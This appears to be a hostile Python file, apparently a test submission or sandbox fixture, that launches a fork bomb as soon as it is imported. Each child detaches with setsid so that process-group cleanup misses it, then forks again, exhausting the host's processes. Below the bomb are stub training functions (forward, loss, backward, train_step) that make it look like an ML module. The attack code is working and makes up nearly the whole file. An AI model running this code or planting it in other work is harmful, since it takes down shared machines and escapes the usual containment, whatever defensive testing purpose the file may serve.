"""Attack: a fork bomb whose every child leaves the process group (setsid) and forks again, to exhaust the machine's processes."""

import os
import time

DEPTH = 12


def _grow(level: int) -> None:
    try:  # noqa: SIM105 - spelled out: this is what the attack does
        os.setsid()
    except OSError:
        pass
    for _ in range(4):
        try:
            if os.fork() == 0:
                if level < DEPTH:
                    _grow(level + 1)
                time.sleep(30)
                os._exit(0)
        except OSError:
            break


if os.fork() == 0:
    _grow(0)
    time.sleep(30)
    os._exit(0)
time.sleep(0.5)


def sigmoid(u):
    raise NotImplementedError


forward = loss = backward = train_step = sigmoid
